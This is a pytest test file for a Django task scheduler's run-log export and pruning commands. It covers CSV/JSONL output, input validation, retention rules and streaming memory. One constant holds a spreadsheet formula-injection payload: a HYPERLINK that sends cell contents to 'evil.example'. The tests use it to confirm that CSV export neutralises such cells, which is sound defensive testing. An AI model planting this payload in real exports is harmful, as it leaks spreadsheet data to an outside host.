"""``exportruns`` and ``pruneruns`` (and the ``prune_runs`` service) on the run log."""

import csv
import io
import json
import subprocess
import sys
import tracemalloc
import uuid
from datetime import UTC, datetime, timedelta
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone

from django_rocket.conditions import Context, parse
from django_rocket.engine import snapshot
from django_rocket.engine.retention import apply_retention, needed_runs, prune_runs
from django_rocket.models import RunStatus, RunTrigger, Task, TaskRun
from django_rocket.ops.export import COLUMNS, export_lines
from tests.conftest import ROOT, process_env

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)


def run(*args: str) -> str:
    out = StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


def task(name: str) -> Task:
    return Task.objects.get_or_create(name=name, defaults={"func": "tests.support.tasks.noop"})[0]


def add(
    name: str,
    status: str,
    started: datetime,
    trigger: str = RunTrigger.SCHEDULED,
    minutes: float = 1,
    **extra,
) -> TaskRun:
    open_ = status in (RunStatus.RUNNING, RunStatus.QUEUED)
    finished = None if open_ else started + timedelta(minutes=minutes)
    return TaskRun.objects.create(
        task=task(name),
        status=status,
        trigger=trigger,
        started_at=None if status == RunStatus.QUEUED else started,
        finished_at=finished,
        runtime=None if open_ else finished - started,
        **extra,
    )


def days_ago(days: float) -> datetime:
    return NOW - timedelta(days=days)


def really_ago(days: float) -> datetime:
    """For commands, which prune relative to the real clock."""
    return timezone.now() - timedelta(days=days)


# ---------------------------------------------------------------------- exportruns


@pytest.fixture
def log():
    first = add("etl", RunStatus.SUCCESS, days_ago(2), message="ok", result={"n": 1})
    second = add(
        "etl",
        RunStatus.FAIL,
        days_ago(1),
        message='ValueError: bad, "quoted"',
        exc_text='Traceback (most recent call last):\n  File "x.py"\nValueError: bad',
    )
    third = add("report", RunStatus.RUNNING, days_ago(0.5))
    add("report", RunStatus.QUEUED, NOW)
    return first, second, third


def test_csv_has_a_header_and_one_row_per_started_run_oldest_first(log):
    first, second, third = log
    rows = list(csv.reader(io.StringIO(run("exportruns"))))
    assert rows[0] == list(COLUMNS)
    assert [r[1] for r in rows[1:]] == [str(first.run_id), str(second.run_id), str(third.run_id)]
    etl = dict(zip(COLUMNS, rows[1], strict=True))
    assert etl == {
        "task_name": "etl",
        "run_id": str(first.run_id),
        "status": "success",
        "trigger": "scheduled",
        "started_at": "2026-02-28T12:00:00+00:00",
        "finished_at": "2026-02-28T12:01:00+00:00",
        "runtime": "60.0",
        "message": "ok",
        "exc_text": "",
    }
    failed = dict(zip(COLUMNS, rows[2], strict=True))
    assert failed["message"] == 'ValueError: bad, "quoted"'
    assert failed["exc_text"] == second.exc_text  # multi-line, quoted, read back intact
    running = dict(zip(COLUMNS, rows[3], strict=True))
    assert (running["status"], running["finished_at"], running["runtime"]) == ("running", "", "")


def test_jsonl_one_object_per_run(log):
    lines = run("exportruns", "--format", "jsonl").splitlines()
    objects = [json.loads(line) for line in lines]
    assert len(objects) == 3
    assert all(list(o) == list(COLUMNS) for o in objects)
    assert objects[0]["runtime"] == 60.0
    assert objects[2]["finished_at"] is None and objects[2]["runtime"] is None


def test_filter_by_task_and_since(log, settings):
    settings.ROCKET_TIME_ZONE = "Europe/Paris"
    lines = run("exportruns", "--format", "jsonl", "--task", "etl").splitlines()
    assert [json.loads(line)["status"] for line in lines] == ["success", "fail"]
    # 2026-03-01T12:00 UTC is 13:00 in Paris: a naive --since is local time.
    since = run("exportruns", "--format", "jsonl", "--since", "2026-03-01T13:00").splitlines()
    assert [json.loads(line)["status"] for line in since] == ["fail", "running"]
    later = run("exportruns", "--format", "jsonl", "--since", "2026-03-01T13:00:01").splitlines()
    assert [json.loads(line)["status"] for line in later] == ["running"]
    both = run("exportruns", "--task", "etl", "--since", "2026-03-01T12:00:00+00:00")
    assert len(list(csv.reader(io.StringIO(both)))) == 2


def test_output_file(log, tmp_path):
    path = tmp_path / "runs.csv"
    out = run("exportruns", "--output", str(path))
    assert out == f"Exported 3 run(s) to {path}.\n"
    assert len(list(csv.reader(path.open(newline="")))) == 4
    out = run("exportruns", "--format", "jsonl", "--output", str(path))
    assert out == f"Exported 3 run(s) to {path}.\n"
    with pytest.raises(CommandError, match=r"Cannot write the export to .*: No such file"):
        run("exportruns", "--output", str(tmp_path / "missing" / "runs.csv"))


FORMULA = '1+1,HYPERLINK("http://evil.example/?x="&A1,"details")'


def csv_row(*args: str) -> dict[str, str]:
    """The first run of a CSV export, by column."""
    rows = list(csv.reader(io.StringIO(run("exportruns", *args))))
    return dict(zip(COLUMNS, rows[1], strict=True))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_get_a_quote_before_them(start, tmp_path):
    formula = start + FORMULA
    add(formula, RunStatus.FAIL, days_ago(1), message=formula, exc_text=formula)
    row = csv_row()
    assert row["task_name"] == row["message"] == row["exc_text"] == "'" + formula
    assert row["status"] == "fail" and row["runtime"] == "60.0"
    path = tmp_path / "runs.csv"
    run("exportruns", "--output", str(path))
    assert list(csv.reader(path.open(newline="")))[1][-1] == "'" + formula


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_raw_csv_writes_cells_as_stored(start):
    formula = start + FORMULA
    add(formula, RunStatus.FAIL, days_ago(1), message=formula, exc_text=formula)
    row = csv_row("--raw-csv")
    assert row["task_name"] == row["message"] == row["exc_text"] == formula


def test_csv_escaping_leaves_other_cells_and_json_lines_alone():
    add("etl", RunStatus.FAIL, days_ago(1), message="ValueError: a=1, b=-2 @home", exc_text="'")
    row = csv_row()
    assert (row["message"], row["exc_text"]) == ("ValueError: a=1, b=-2 @home", "'")
    add("=etl", RunStatus.FAIL, days_ago(0.5), message="=1+1")
    objects = [json.loads(line) for line in run("exportruns", "--format", "jsonl").splitlines()]
    assert [(o["task_name"], o["message"]) for o in objects] == [
        ("etl", "ValueError: a=1, b=-2 @home"),
        ("=etl", "=1+1"),
    ]


def test_empty_log_exports_a_header_only():
    assert run("exportruns") == ",".join(COLUMNS) + "\n"
    assert run("exportruns", "--format", "jsonl") == ""


def test_export_errors(log, settings):
    settings.ROCKET_TASKS = {"nightly": {"func": "tests.support.tasks.noop", "start_cond": "daily"}}
    with pytest.raises(CommandError, match=r"no task 'elt' in the run log\. Did you mean 'etl'"):
        run("exportruns", "--task", "elt")
    with pytest.raises(CommandError, match="Did you mean 'nightly'"):
        run("exportruns", "--task", "nightlyy")
    with pytest.raises(CommandError, match="invalid choice: 'xml'"):
        run("exportruns", "--format", "xml")
    with pytest.raises(CommandError, match="is not an ISO 8601 date"):
        run("exportruns", "--since", "last week")
    with pytest.raises(CommandError, match="--raw-csv applies to --format csv only"):
        run("exportruns", "--format", "jsonl", "--raw-csv")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--since", "0001-01-01T00:00+05:00"), r"in the year 1; give a date from 1970 to 9000"),
        (("--since", "9999-12-31T23:59-05:00"), r"in the year 9999; give a date from 1970"),
        (("--since", "1969-12-31"), r"in the year 1969"),
        (("--chunk-size", "99999999999999999999"), r"must be above 0 and at most 10000"),
        (("--chunk-size", "0"), r"must be above 0 and at most 10000"),
        (("--task", "etl\udcff"), r"is not UTF-8 text: character 4 stands for a byte"),
        (("--task", "etl\x00"), r"contains a NUL character; give a task name without one"),
        (("--task", "x" * 201), r"has 201 characters; a task name has at most 200"),
        (("--output", "runs\x00.csv"), r"contains a NUL character, which no file name can hold"),
        (("--output", ""), r"The file name is empty"),
        (("--output", "x" * 4097), r"has 4097 characters; a file path has at most 4096"),
        (("--output", "x" * 300), r"Cannot write the export to 'xxx.*…xxx': File name too long"),
        (("--output", "\ud800.csv"), r"cannot be encoded as a file name"),
        (("--format=--",), r"--format needs a value; '--' is not one"),
    ],
)
def test_export_refuses_absurd_values_in_one_line(args, message):
    with pytest.raises(CommandError, match=message) as info:
        run("exportruns", *args)
    assert "\n" not in str(info.value)


def test_a_since_in_an_unknown_time_zone_is_one_line(settings):
    settings.ROCKET_TIME_ZONE = "Mars/Olympus"
    with pytest.raises(CommandError, match=r"ROCKET_TIME_ZONE 'Mars/Olympus' is not a known"):
        run("exportruns", "--since", "2026-03-02")


def test_export_takes_the_bounds_themselves(log, tmp_path):
    run("exportruns", "--since", "1970-01-01T00:00+23:59", "--chunk-size", "10000")
    run("exportruns", "--since", "9000-12-31T23:59:59-23:59", "--chunk-size", "1")
    run("exportruns", "--task", "etl", "--output", str(tmp_path / "r\udcff.csv"))
    assert (tmp_path / "r\udcff.csv").exists()  # a file name that is not UTF-8 is fine


def bulk_runs(count: int) -> None:
    t = task("bulk")
    start = days_ago(30)
    TaskRun.objects.bulk_create(
        (
            TaskRun(
                task=t,
                run_id=uuid.uuid4(),
                status=RunStatus.SUCCESS,
                started_at=start + timedelta(seconds=i),
                finished_at=start + timedelta(seconds=i + 1),
                runtime=timedelta(seconds=1),
                message="m" * 200,
            )
            for i in range(count)
        ),
        batch_size=2000,
    )


def export_peak(chunk_size: int) -> tuple[int, int]:
    """Export everything into a sink that keeps nothing; return (runs, peak bytes)."""
    written = 0
    tracemalloc.start()
    try:
        for _ in export_lines("csv", chunk_size=chunk_size):
            written += 1
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return written - 1, peak


def test_export_streams_in_constant_memory():
    bulk_runs(500)
    small_count, small_peak = export_peak(chunk_size=100)
    bulk_runs(4500)
    big_count, big_peak = export_peak(chunk_size=100)
    assert (small_count, big_count) == (500, 5000)
    # Ten times the rows, about the same memory: rows are not accumulated.
    assert big_peak < small_peak * 1.5 + 200_000, (small_peak, big_peak)


# ---------------------------------------------------------------------- pruning


def ids(*runs: TaskRun) -> set[int]:
    return {r.pk for r in runs}


def remaining() -> set[int]:
    return set(TaskRun.objects.values_list("pk", flat=True))


def test_old_runs_go_and_the_latest_of_each_kind_stay():
    old_ok = [add("a", RunStatus.SUCCESS, days_ago(100 - i)) for i in range(5)]
    old_fail = add("a", RunStatus.FAIL, days_ago(90), trigger=RunTrigger.SCHEDULED)
    old_ok2 = add("a", RunStatus.SUCCESS, days_ago(89))  # ends the failure's retry chain
    crash = add("a", RunStatus.CRASH, days_ago(88))
    term = add("a", RunStatus.TERMINATE, days_ago(87))
    inaction = add("a", RunStatus.INACTION, days_ago(86))
    last_ok = add("a", RunStatus.SUCCESS, days_ago(85))
    recent = add("a", RunStatus.SUCCESS, days_ago(1))
    running = add("a", RunStatus.RUNNING, days_ago(200))
    queued = add("a", RunStatus.QUEUED, NOW)
    other = add("b", RunStatus.SUCCESS, days_ago(300))  # another task's only run

    result = prune_runs("30 days", now=NOW)

    # The latest success is recent, so every old success goes; the latest fail, crash,
    # terminate and inaction stay however old, as do open runs and b's only run.
    assert remaining() == ids(old_fail, crash, term, inaction, recent, running, queued, other)
    assert result.deleted == len(old_ok) + 2
    assert result.kept == 5
    assert not ids(old_ok2, last_ok) & remaining()
    assert result.cutoff == NOW - timedelta(days=30)


def test_the_open_retry_chain_stays():
    done = add("r", RunStatus.FAIL, days_ago(80))
    add("r", RunStatus.SUCCESS, days_ago(79))
    chain = [
        add("r", RunStatus.FAIL, days_ago(60)),
        add("r", RunStatus.FAIL, days_ago(59), trigger=RunTrigger.RETRY),
        add("r", RunStatus.FAIL, days_ago(58), trigger=RunTrigger.RETRY),
    ]
    before_chain = add("r", RunStatus.FAIL, days_ago(61), trigger=RunTrigger.RETRY)
    before_chain.started_at = days_ago(61)
    before_chain.save()
    prune_runs("30 days", now=NOW)
    kept = remaining()
    assert ids(*chain) <= kept  # the chain retry(n) counts, back to its scheduled run
    assert done.pk not in kept and before_chain.pk not in kept
    # The latest success stays too.
    assert TaskRun.objects.filter(status=RunStatus.SUCCESS).count() == 1


def test_a_chain_behind_a_run_in_progress_stays():
    chain = [
        add("r", RunStatus.FAIL, days_ago(60)),
        add("r", RunStatus.FAIL, days_ago(59), trigger=RunTrigger.RETRY),
    ]
    add("r", RunStatus.RUNNING, days_ago(0.1), trigger=RunTrigger.RETRY)
    prune_runs("30 days", now=NOW)
    assert ids(*chain) <= remaining()


def test_conditions_read_the_same_after_pruning():
    conds = [
        "every('1 day')",
        "every('1 day', based='success')",
        "after_success('up')",
        "after_fail('up')",
        "daily | retry(3)",
        "succeeded & failed & terminated & inacted",
        "retry(2)",
    ]
    for day in range(120, 35, -1):
        status = [RunStatus.SUCCESS, RunStatus.FAIL, RunStatus.INACTION][day % 3]
        trigger = RunTrigger.RETRY if status == RunStatus.FAIL and day % 2 else "scheduled"
        add("t", status, days_ago(day), trigger=trigger)
        add("up", RunStatus.SUCCESS if day % 5 else RunStatus.FAIL, days_ago(day - 0.5))
    add("t", RunStatus.TERMINATE, days_ago(50))
    add("t", RunStatus.FAIL, days_ago(40))
    add("t", RunStatus.FAIL, days_ago(39), trigger=RunTrigger.RETRY)

    def values() -> list[tuple[bool, object]]:
        loaded, _ = snapshot.load(NOW)
        ctx = Context(task="t", now=NOW, history=loaded, tz=UTC)
        return [parse(c).evaluate(ctx) for c in conds]

    before = values()
    result = prune_runs("30 days", now=NOW)
    assert result.deleted > 150
    assert values() == before


def test_keep_failed():
    fail = add("a", RunStatus.FAIL, days_ago(100))
    crash = add("a", RunStatus.CRASH, days_ago(99))
    term = add("a", RunStatus.TERMINATE, days_ago(98))
    add("a", RunStatus.SUCCESS, days_ago(97))
    for status in (RunStatus.FAIL, RunStatus.CRASH, RunStatus.TERMINATE, RunStatus.SUCCESS):
        add("a", status, days_ago(50))
    prune_runs("30 days", keep_failed=True, now=NOW)
    statuses = sorted(TaskRun.objects.values_list("status", flat=True))
    assert statuses == sorted(
        ["fail", "crash", "terminate", "fail", "crash", "terminate", "success"]
    )
    assert ids(fail, crash, term) <= remaining()


def test_dry_run_counts_and_deletes_nothing():
    for i in range(7):
        add("a", RunStatus.SUCCESS, really_ago(100 - i))
    out = run("pruneruns", "--older-than", "30 days", "--dry-run")
    assert out.startswith("Would delete 6 run(s) that finished more than 30 days ago (before ")
    assert "; kept 1 old run(s) that conditions still read." in out
    assert TaskRun.objects.count() == 7


def test_batches(settings):
    for i in range(7):
        add("a", RunStatus.SUCCESS, really_ago(100 - i))
    add("a", RunStatus.SUCCESS, really_ago(1))
    out = run("pruneruns", "--older-than", "30 days", "--batch-size", "2")
    assert "Deleted 7 run(s) that finished more than 30 days ago" in out
    assert out.endswith("in 4 batch(es).\n")
    assert TaskRun.objects.count() == 1
    assert run("pruneruns", "--older-than", "30 days").startswith("Deleted 0 run(s)")


def test_max_batches_leaves_the_rest_for_later():
    for i in range(5):
        add("a", RunStatus.SUCCESS, days_ago(100 - i))
    add("a", RunStatus.SUCCESS, days_ago(1))
    first = prune_runs("30 days", batch_size=2, max_batches=1, now=NOW)
    assert (first.deleted, first.complete) == (2, False)
    second = prune_runs("30 days", batch_size=2, max_batches=5, now=NOW)
    assert (second.deleted, second.complete) == (3, True)


def test_a_kept_retry_loses_its_link_to_a_deleted_run():
    parent = add("a", RunStatus.FAIL, days_ago(100))
    add("a", RunStatus.FAIL, days_ago(60))  # the latest fail: parent is no longer needed
    add("a", RunStatus.SUCCESS, days_ago(59))
    child = add("a", RunStatus.SUCCESS, days_ago(1), trigger=RunTrigger.MANUAL, retry_of=parent)
    prune_runs("30 days", now=NOW)
    assert parent.pk not in remaining()
    child.refresh_from_db()
    assert child.retry_of is None


def test_many_runs_in_default_batches():
    bulk_runs(10_001)
    result = prune_runs("1 day")
    assert (result.deleted, result.kept, result.batches) == (10_000, 1, 3)
    assert TaskRun.objects.count() == 1


def test_needed_runs_is_per_task():
    a = add("a", RunStatus.SUCCESS, days_ago(5))
    b = add("b", RunStatus.SUCCESS, days_ago(6))
    add("b", RunStatus.SUCCESS, days_ago(7))
    assert needed_runs() == ids(a, b)


def test_apply_retention(settings):
    add("a", RunStatus.SUCCESS, days_ago(100))
    add("a", RunStatus.SUCCESS, days_ago(1))
    assert apply_retention(now=NOW) is None
    settings.ROCKET_RUN_RETENTION = "30 days"
    assert apply_retention(now=NOW).deleted == 1
    assert TaskRun.objects.count() == 1


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ((), "the following arguments are required: --older-than"),
        (("--older-than", "soon"), "Cannot read the duration 'soon'"),
        (("--older-than", "0"), "'0' is zero"),
        (("--older-than", "-3 days"), "--older-than"),
        (("--older-than", "1 day", "--batch-size", "0"), "must be above 0"),
        (("--older-than", "99999999 days"), "'99999999 days' is longer than 100 years"),
        (("--older-than", "9" * 30 + " weeks"), "is longer than 100 years"),
        (("--older-than", "36501 days"), "is longer than 100 years"),
        (("--older-than", "1 day", "--batch-size", "99999999999999999999"), "at most 10000"),
        (("--older-than", "1 day", "--batch-size", "10001"), "at most 10000"),
        (("--older-than=--",), "--older-than needs a value"),
    ],
)
def test_prune_errors(args, message):
    with pytest.raises(CommandError, match=message):
        run("pruneruns", *args)


def test_prune_takes_the_bounds_themselves():
    add("etl", RunStatus.SUCCESS, really_ago(3))
    add("etl", RunStatus.SUCCESS, really_ago(2))
    assert run("pruneruns", "--older-than", "36500 days", "--batch-size", "10000").startswith(
        "Deleted 0 run(s)"
    )
    assert run("pruneruns", "--older-than", "1 day", "--batch-size", "1").startswith(
        "Deleted 1 run(s)"
    )


def test_an_age_reaching_before_year_1_prunes_nothing():
    add("etl", RunStatus.SUCCESS, days_ago(3))
    add("etl", RunStatus.SUCCESS, days_ago(2))
    result = prune_runs(timedelta(days=999_999), now=NOW)
    assert (result.deleted, result.cutoff) == (0, datetime.min.replace(tzinfo=UTC))
    assert TaskRun.objects.count() == 2


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_export_piped_into_head_stops_quietly():
    """``exportruns | head``: the reader goes away; no traceback, nothing after it."""
    runs = [
        TaskRun(task=task("many"), status=RunStatus.SUCCESS, started_at=NOW, message="x" * 200)
        for _ in range(5_000)  # over a megabyte of CSV: far more than a pipe holds
    ]
    TaskRun.objects.bulk_create(runs)
    proc = subprocess.Popen(
        [sys.executable, "-m", "django", "exportruns", "--chunk-size", "100"],
        cwd=ROOT,
        env=process_env({}),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stderr is not None
    assert proc.stdout.readline().startswith(b"task_name,")  # what `head -1` reads
    proc.stdout.close()
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 1
    assert err == ""  # not a BrokenPipeError's traceback, nor "Exception ignored"
